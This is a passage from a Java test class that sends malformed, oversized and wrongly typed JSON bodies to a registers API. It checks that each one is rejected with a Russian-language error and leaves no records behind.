        assertThat(r.json().get("detail").asString()).as(description).matches("(?s).*[А-Яа-я].*");
    }

    /** JSON pointers of every scalar, and of every array as a whole. */
    private static List<String> leaves(JsonNode node, String pointer) {
        List<String> leaves = new ArrayList<>();
        if (node.isObject()) {
            for (Map.Entry<String, JsonNode> e : node.properties()) {
                leaves.addAll(leaves(e.getValue(), pointer + "/" + e.getKey()));
            }
        } else if (node.isArray()) {
            leaves.add(pointer);
            if (!node.isEmpty()) {
                leaves.addAll(leaves(node.get(0), pointer + "/0"));
            }
        } else {
            leaves.add(pointer);
        }
        return leaves;
    }

    private static List<String> attacksOn(String pointer, JsonNode leaf) {
        List<String> attacks = new ArrayList<>();
        if (leaf.isArray()) {
            attacks.addAll(List.of("\"строка\"", "{}", "[[1]]", "[null]"));
        } else if (leaf.isNumber()) {
            attacks.addAll(List.of("\"много\"", "1.5", "1e400", "123456789012345678901234567890", "{}", "[]", "-1"));
        } else {
            attacks.addAll(
                    List.of('"' + LONG + '"', "\"a\\u0000b\"", "\"a\\u001bb\"", "\"a\\ud800b\"", "{\"x\":1}", "[1]"));
            if (leaf.asString().matches("[A-Z_]+")) { // an enum's name
                attacks.addAll(List.of("\"НЕТ_ТАКОГО\"", "0", "\"\""));
            }
        }
        return attacks;
    }

    private static Map<String, Supplier<byte[]>> wholeBodyAttacks(String validBody) {
        Map<String, Supplier<byte[]>> attacks = new LinkedHashMap<>();
        attacks.put("invalid UTF-8", () -> invalidUtf8(validBody));
        attacks.put("an array", () -> bytes("[]"));
        attacks.put("a string", () -> bytes("\"строка\""));
        attacks.put("a number", () -> bytes("42"));
        attacks.put("not JSON", () -> bytes("{oops"));
        attacks.put("trailing garbage", () -> bytes(validBody + " }{ мусор"));
        attacks.put("nested 100000 deep", () -> bytes("{\"a\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"));
        attacks.put(
                "valid but beyond the size limit (2 MB of white space)",
                () -> bytes("{" + " ".repeat(2 * 1024 * 1024) + validBody.substring(validBody.indexOf('{') + 1)));
        return attacks;
    }

    /** The valid body with its first text value's bytes broken by a lone UTF-8 continuation and an invalid byte. */
    private static byte[] invalidUtf8(String validBody) {
        byte[] valid = bytes(validBody);
        int quote = validBody.indexOf(":\"") + 2;
        int at = validBody.substring(0, quote).getBytes(StandardCharsets.UTF_8).length;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(valid, 0, at);
        out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0x80});
        out.write(valid, at, valid.length - at);
        return out.toByteArray();
    }

    private static JsonNode replaced(JsonNode valid, String pointer) {
        JsonNode copy = valid.deepCopy();
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = slash == 0 ? copy : copy.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode o) {
            o.set(last, StringNode.valueOf(MARK));
        } else {
            ((ArrayNode) parent).set(Integer.parseInt(last), StringNode.valueOf(MARK));
        }
        return copy;
    }

    private int history(String register) {
        return ok(api.as("auditor").get("/api/v1/registers/" + register + "/history"))
                .json()
                .size();
    }

    private static List<String> concat(List<String> a, List<String> b) {
        return Stream.concat(a.stream(), b.stream()).toList();
    }

    private long recorded() {
        return jdbc.sql("select (select count(*) from domain_event_entry) + (select count(*) from account)")
                .query(Long.class)
                .single();
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static String abbreviated(String s) {
        return s.length() <= 300 ? s : s.substring(0, 300) + "… (" + s.length() + " characters)";
    }
}
